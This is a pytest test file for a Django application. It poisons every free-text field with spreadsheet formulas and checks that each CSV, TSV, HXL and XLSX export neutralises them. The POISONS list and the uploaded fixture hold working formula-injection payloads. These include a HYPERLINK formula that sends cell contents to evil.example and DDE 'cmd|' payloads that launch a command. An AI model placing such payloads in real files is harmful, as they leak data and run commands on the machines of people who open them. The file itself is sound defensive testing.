"""Formula injection over every export: every route, API action and command that writes CSV, TSV,
HXL or XLSX, with every free-text field of the demo poisoned with spreadsheet formulas.

A CSV cell may not start with a formula trigger (= + - @ tab CR) unless it is a plain number; an
XLSX cell may not be a formula, and a text cell starting with a trigger must carry the quote
prefix. New exports are covered without new tests: the walker finds them by what they answer.
"""

import csv
import inspect
import io
import re

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from lindung.core import policy
from lindung.core.models import Organisation
from lindung.standard import services as standard_services
from lindung.standard.models import ValidationReport

from .test_authorization import (
    HOME_ORG,
    _declared_models,
    _dummy,
    _enumerated,
    _examples,
    _fill,
    _is_public,
    all_routes,
    world,  # noqa: F401 - the fixture, used by name
)
from .textfields import fill_text_fields, project_models

POISONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMATS = ("csv", "tsv", "hxl", "xlsx", "xlsform", "sdmx-csv")
# The query parameter through which an API action chooses a file format.
FORMAT_QUERIES = [f"?output={fmt}" for fmt in FORMATS]
SPREADSHEET_TYPES = ("csv", "tab-separated", "spreadsheetml")
# Each of these must be found by the walker and must carry a (neutralised) poisoned value.
POISON_CARRIERS = {
    "maritime:export_csv",
    "referrals:service_export",
    "engagement:engagement_export",
    "frameworks:matrix_export",
    "standard:report_errors",
}


def _formula_like(value) -> bool:
    return isinstance(value, str) and value[:1] in TRIGGERS and not PLAIN_NUMBER.fullmatch(value)


def _unsafe_csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if _formula_like(cell)]


def _unsafe_xlsx_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{sheet.title}!{cell.coordinate} formula {cell.value!r}")
                elif _formula_like(cell.value) and not cell.quotePrefix:
                    bad.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
    return bad


def _poisoned_text(data: bytes, kind: str) -> bool:
    if kind == "xlsx":
        book = load_workbook(io.BytesIO(data))
        values = (c.value for s in book.worksheets for r in s.iter_rows() for c in r)
        return any(isinstance(v, str) and "cmd|" in v or "HYPERLINK" in str(v) for v in values)
    text = data.decode("utf-8-sig", errors="replace")
    return "cmd|" in text or "HYPERLINK" in text


def _kind(response) -> str | None:
    ctype = response.get("Content-Type", "")
    disposition = response.get("Content-Disposition", "")
    if "spreadsheetml" in ctype or disposition.rstrip('"').endswith(".xlsx"):
        return "xlsx"
    if any(t in ctype for t in SPREADSHEET_TYPES) or re.search(r"\.(csv|tsv)\"?$", disposition):
        return "csv"
    return None


def _unsafe(data: bytes, kind: str) -> list[str]:
    if kind == "xlsx":
        return _unsafe_xlsx_cells(data)
    return _unsafe_csv_cells(data.decode("utf-8-sig"))


@pytest.fixture
def poisoned(world):  # noqa: F811 - the imported fixture
    walker, client = world
    counter = iter(range(10**9))
    for model in project_models():
        fill_text_fields(
            model._default_manager.all(), lambda obj, field: POISONS[next(counter) % len(POISONS)]
        )
    # A validation report whose errors quote poisoned values of the uploaded file.
    org = Organisation.objects.get(name=HOME_ORG)
    standard_services.report_create(
        acting_user=walker,
        organisation=org,
        file_name="poisoned.csv",
        data=b'sex,age_group\n"=HYPERLINK(""http://evil.example"")","+cmd|\' /C calc\'!A0"\n',
        profile="lindung",
    )
    return walker, client


def _route_paths(route, walker):
    """Paths for a route: object ids the walker may see, each listed value of an enumerated kwarg,
    every export format for a format kwarg, and format queries for views that read one."""
    models = _declared_models(route.callback)
    examples = _examples(route.callback)
    choices = {}
    for kwarg in route.kwargs:
        if kwarg in models:
            obj = policy.accessible(walker, models[kwarg]._default_manager.all()).order_by("pk").last()
            if obj is None:
                return []
            choices[kwarg] = [getattr(obj, "public_id", obj.pk) if kwarg == "public_id" else obj.pk]
        elif _enumerated(kwarg, route):
            choices[kwarg] = re.search(rf"\(\?P<{kwarg}>([^)]*)\)", route.pattern).group(1).split("|")
        elif kwarg in ("fmt", "format", "output"):
            choices[kwarg] = list(dict.fromkeys([examples.get(kwarg, "csv"), *FORMATS]))
        else:
            choices[kwarg] = [examples.get(kwarg, _dummy(kwarg, route.pattern))]
    paths = [{}]
    for kwarg, values in choices.items():
        paths = [{**p, kwarg: v} for p in paths for v in values]
    filled = [_fill(route.pattern, p) for p in paths]
    callback = route.callback
    view = getattr(callback, "view_class", None) or getattr(callback, "cls", None) or callback
    try:
        source = inspect.getsource(inspect.unwrap(view))
    except (OSError, TypeError):
        source = ""
    if filled[0].startswith("/api/") and re.search(r"\boutput\b", source):
        filled += [p + q for p in filled for q in FORMAT_QUERIES]
    return filled


@pytest.mark.django_db
def test_no_export_lets_a_formula_through(poisoned):
    walker, client = poisoned
    exports_found, carriers_poisoned, failures, latitudes = set(), set(), [], []
    for route in all_routes():
        if _is_public(route):
            continue
        for path in _route_paths(route, walker):
            response = client.get(path)
            kind = _kind(response) if response.status_code == 200 else None
            if kind is None:
                continue
            data = b"".join(response) if response.streaming else response.content
            exports_found.add(route.name)
            if route.name == "maritime:export_csv":
                latitudes += [row["latitude"] for row in csv.DictReader(io.StringIO(data.decode()))]
            if _poisoned_text(data, kind):
                carriers_poisoned.add(route.name)
            unsafe = _unsafe(data, kind)
            if unsafe:
                failures.append(f"{route.name} {path}: {unsafe[:3]}")
    assert not failures, "formulas in exports:\n" + "\n".join(failures)
    missing = POISON_CARRIERS - exports_found
    assert not missing, f"the walker no longer finds these exports: {sorted(missing)}"
    unproven = sorted(POISON_CARRIERS - carriers_poisoned)
    assert not unproven, f"no poisoned value reached {unproven}: the test proves nothing there"
    # Every export the brief names, at least: the walker must keep finding them.
    assert {"stats:indicator_download", "standard:export", "standard:records_ctdc", "maritime:trend_csv"} <= (
        exports_found
    )
    assert ValidationReport.objects.exists()
    # Numbers stay numbers: the incidents south of the equator keep their negative latitude.
    assert any(re.fullmatch(r"-\d+(\.\d+)?", lat) for lat in latitudes), latitudes[:10]


COMMANDS = [
    ("stats", "table", "presumed_victims", "--format", "{fmt}", "--user", "walker", "-o", "{out}"),
    ("stats", "microdata", "--user", "walker", "--hxl", "-o", "{out}"),
    ("frameworks", "export", "--user", "walker", "--format", "{fmt}", "-o", "{out}"),
    ("standard", "export", "--format", "{fmt}", "--out", "{out}", "--user", "walker"),
]
COMMAND_FORMATS = {"stats": ("csv", "hxl", "sdmx-csv", "xlsx"), "frameworks": ("csv", "xlsx"),
                   "standard": ("xlsx", "xlsform", "ctdc-records")}  # fmt: skip


@pytest.mark.django_db
def test_no_export_command_lets_a_formula_through(poisoned, tmp_path):
    failures, written = [], 0
    for template in COMMANDS:
        for fmt in COMMAND_FORMATS[template[0]] if "{fmt}" in template else ("csv",):
            out = tmp_path / f"{template[0]}-{template[1]}.{fmt}"
            args = [a.format(fmt=fmt, out=out) for a in template]
            try:
                call_command(*args)
            except SystemExit as exc:  # a command that refuses (no data for this user) writes nothing
                failures.append(f"{' '.join(args)} exited {exc.code}")
                continue
            data = out.read_bytes()
            written += 1
            kind = "xlsx" if data.startswith(b"PK\x03\x04") else "csv"
            unsafe = _unsafe(data, kind)
            if unsafe:
                failures.append(f"{' '.join(args)}: {unsafe[:3]}")
    assert not failures, "\n".join(failures)
    assert written == sum(len(COMMAND_FORMATS[t[0]]) if "{fmt}" in t else 1 for t in COMMANDS)
